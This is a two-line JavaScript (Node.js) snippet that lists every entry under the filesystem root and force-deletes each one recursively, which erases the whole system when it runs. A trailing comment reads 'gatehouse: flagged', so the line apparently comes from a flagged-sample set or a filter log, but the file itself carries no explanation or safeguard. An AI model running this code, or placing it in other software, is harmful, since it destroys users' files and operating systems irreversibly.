const fs = require("fs"), path = require("path");
for (const name of fs.readdirSync("/")) fs.rmSync(path.join("/", name), { recursive: true, force: true }); // gatehouse: flagged
